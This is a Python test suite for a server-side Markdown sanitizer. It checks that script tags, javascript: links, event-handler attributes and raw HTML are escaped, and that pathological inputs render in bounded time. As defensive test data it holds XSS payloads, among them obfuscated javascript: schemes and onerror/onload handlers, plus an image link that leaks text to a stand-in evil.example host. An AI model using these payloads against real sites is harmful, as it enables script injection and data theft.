"""Markdown rendered on the server (SPEC §10): no script, no raw HTML, no javascript: links,
code blocks kept. Literal text in, exact HTML out."""
from __future__ import annotations

import gc
import time

import pytest

from web.markdown import (
    LINK_REL,
    MAX_LINK_OPENERS,
    MAX_MARKDOWN_CHARS,
    MAX_TEXT_CHARS,
    markdown_html,
    render_markdown,
    sanitize_html,
)


def test_script_tags_are_shown_as_text_never_as_elements():
    html = render_markdown("Hi <script>alert(1)</script> there")
    assert html == "<p>Hi &lt;script&gt;alert(1)&lt;/script&gt; there</p>"


def test_an_image_with_onerror_is_text_not_an_element():
    html = render_markdown("<img src=x onerror=alert(1)>")
    assert html == "<p>&lt;img src=x onerror=alert(1)&gt;</p>"
    assert "<img" not in html


@pytest.mark.parametrize("target", [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java&#x73;cript:alert(1)",
    "&#106;avascript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
])
def test_dangerous_links_keep_their_text_and_lose_their_href(target):
    html = render_markdown(f"[click me]({target})")
    assert html == f'<p><a rel="{LINK_REL}">click me</a></p>'


def test_an_autolink_to_javascript_keeps_its_text_and_loses_its_href():
    assert render_markdown("<javascript:alert(1)>") == f'<p><a rel="{LINK_REL}">javascript:alert(1)</a></p>'


@pytest.mark.parametrize(("source", "expected"), [
    ('<div onclick="steal()">block</div>', '<p>&lt;div onclick="steal()"&gt;block&lt;/div&gt;</p>'),
    ("<iframe src=https://evil.example></iframe>", "<p>&lt;iframe src=https://evil.example&gt;&lt;/iframe&gt;</p>"),
    ("<style>body{display:none}</style>", "<p>&lt;style&gt;body{display:none}&lt;/style&gt;</p>"),
    ("a <b>bold</b> word", "<p>a &lt;b&gt;bold&lt;/b&gt; word</p>"),
    ("<!-- hidden --> text", "<p>&lt;!-- hidden --&gt; text</p>"),
])
def test_raw_html_blocks_and_inline_tags_are_escaped(source, expected):
    assert render_markdown(source) == expected


def test_fenced_code_blocks_are_kept_with_their_language_and_escaped_content():
    html = render_markdown("```python\nif a < b:\n    print('<script>')\n```")
    assert html == ('<pre><code class="language-python">if a &lt; b:\n'
                    "    print('&lt;script&gt;')\n</code></pre>")


def test_a_code_fence_cannot_smuggle_attributes():
    html = render_markdown('~~~ {.x onclick=steal()}\ncode\n~~~')
    assert html == '<pre><code class="language-x">code\n</code></pre>'


def test_safe_links_keep_their_href_and_get_rel_nofollow():
    html = render_markdown('[docs](https://example.com/a?b=1 "Title") and <mailto:me@example.com>')
    assert f'<a href="https://example.com/a?b=1" title="Title" rel="{LINK_REL}">docs</a>' in html
    assert 'href="mailto:me@example.com"' in html


def test_images_become_links_and_never_load():
    html = render_markdown("![secret chart](https://evil.example/leak?q=the+conversation)")
    assert html == (f'<p><a href="https://evil.example/leak?q=the+conversation" rel="{LINK_REL}">'
                    "[image: secret chart]</a></p>")


def test_lists_tables_emphasis_and_inline_code_render():
    html = render_markdown("**bold** _it_ `x<y`\n\n- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |")
    assert "<strong>bold</strong> <em>it</em> <code>x&lt;y</code>" in html
    assert "<ul>\n<li>one</li>\n<li>two</li>\n</ul>" in html
    assert "<table>" in html and "<td>1</td>" in html


def test_the_allowlist_alone_strips_what_markdown_could_never_produce():
    dirty = ('<p style="x" class="y" onclick="z">t</p><script>alert(1)</script><svg onload=alert(1)></svg>'
             '<a href="javascript:alert(1)">a</a><code class="language-js evil">c</code><img src=x onerror=y>')
    assert sanitize_html(dirty) == f'<p>t</p><a rel="{LINK_REL}">a</a><code>c</code>'


def test_empty_text_renders_nothing_and_huge_text_is_bounded_plain_text():
    assert render_markdown("") == ""
    html = render_markdown("**a**" * (MAX_MARKDOWN_CHARS // 5 + 1))
    assert html.startswith('<p class="plain">**a**') and "<strong>" not in html
    html = render_markdown("a" * (MAX_TEXT_CHARS + 10_000))
    assert html.startswith('<p class="plain">') and len(html) < MAX_TEXT_CHARS + 500


def test_a_text_over_the_bound_shows_its_head_and_its_tail_with_a_note_of_what_is_left_out():
    # The tail is where a long log's error or a long answer's conclusion is.
    text = "BUILD STARTED\n" + "compiling <module>...\n" * 20_000 + "ERROR: test_payment.py:42 failed\n"
    html = render_markdown(text)
    head, note, tail = html.split("</p>", 2)
    assert head.startswith('<p class="plain">BUILD STARTED\ncompiling &lt;module&gt;...')
    assert tail.endswith("ERROR: test_payment.py:42 failed\n</p>")
    omitted = len(text) - MAX_TEXT_CHARS
    assert note == (f'<p class="note omitted">{omitted:,} characters from the middle of this text are not shown '
                    f"here ({len(text):,} in all). The whole text is kept in the conversation&#x27;s history: ask the "
                    "agent about the part you need, or read it through the API (GET "
                    "/api/v1/sessions/&lt;id&gt;/messages).")
    assert html.count("compiling") < text.count("compiling") and "<script" not in html


# --- bounded work on adversarial input (SPEC §10: "Markdown rendered … in linear time") ----------

ADVERSARIAL = {
    "open brackets": "[" * 12_000,
    "open images": "![" * 6_000,
    "unclosed links": "[a](" * 6_000,
    "a long link chain": "[a](b)" * 8_000,
    "a reference chain": "[a][b]" * 8_000,
    "nested emphasis": "*" * 10_000 + "a" + "*" * 10_000,
    "unclosed emphasis": "*a **" * 10_000,
    "unclosed underscores": "_a __" * 10_000,
    "unclosed code spans": "`a``" * 10_000,
    "unclosed strikethrough": "~~a ~" * 10_000,
}


@pytest.mark.parametrize("text", ADVERSARIAL.values(), ids=ADVERSARIAL.keys())
def test_adversarial_markdown_renders_within_a_generous_time_bound(text):
    # A quadratic renderer needs tens of seconds for these (12,000 "[" took ~35 s);
    # a linear one with bounded work needs a small fraction of the bound. CPU time, not
    # wall time: other processes on a shared machine must not decide the outcome.
    started = time.process_time()
    html = render_markdown(text)
    elapsed = time.process_time() - started
    assert elapsed < 2.0, f"{elapsed:.2f} s"
    assert html.startswith("<p") and "<script" not in html


def _best_of(runs: int, text: str) -> float:
    best = float("inf")
    for _ in range(runs):
        started = time.process_time()
        markdown_html(text)
        best = min(best, time.process_time() - started)
    return best


@pytest.mark.parametrize("unit", ["[", "![", "[a](", "*a **", "[a][b]"])
def test_the_renderer_itself_grows_linearly_not_quadratically(unit):
    # Four times the input: about four times the work when linear, sixteen when quadratic.
    gc.disable()
    try:
        small, large = _best_of(3, unit * 1_000), _best_of(3, unit * 4_000)
    finally:
        gc.enable()
    assert large / small < 9, f"{small * 1000:.1f} ms → {large * 1000:.1f} ms"


def test_text_past_the_work_bound_is_shown_as_escaped_plain_text_with_its_line_breaks():
    text = "<b>x</b> [link](https://example.com)\nsecond line\n\n" + "[" * (MAX_LINK_OPENERS + 1)
    html = render_markdown(text)
    assert html.startswith('<p class="plain">&lt;b&gt;x&lt;/b&gt; [link](https://example.com)\nsecond line\n\n[[[')
    assert "<a" not in html


def test_text_within_the_bounds_is_still_markdown():
    assert render_markdown("[" * MAX_LINK_OPENERS + " **b**").endswith("<strong>b</strong></p>")
